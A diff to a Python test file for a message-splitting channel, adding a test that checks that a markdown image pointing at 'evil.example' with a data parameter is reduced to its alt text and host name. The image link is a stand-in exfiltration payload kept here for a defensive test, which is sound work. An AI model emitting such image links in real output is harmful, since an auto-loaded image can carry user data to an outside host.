@@ -288,9 +288,13 @@ def test_a_short_text_is_one_piece(channel: Channel) -> None:
     assert channel.split("y = 12") == ("y = 12",)
 
 
-@pytest.mark.parametrize("text", ["", " \n\n ", "![](http://evil.example/?d=1)", "---"])
+@pytest.mark.parametrize("text", ["", " \n\n ", "&nbsp;", "# ", "---"])
 def test_a_text_without_words_is_no_piece(channel: Channel, text: str) -> None:
     assert channel.split(text) == ()
+
+
+def test_a_picture_at_a_foreign_address_is_its_words_and_its_host(channel: Channel) -> None:
+    assert channel.split("![x](http://evil.example/?d=1)") == ("x (evil.example)",)  # F3
 
 
 async def test_a_long_text_fits_the_connector_piece_by_piece(teams: StandInConnector, channel: Channel) -> None:
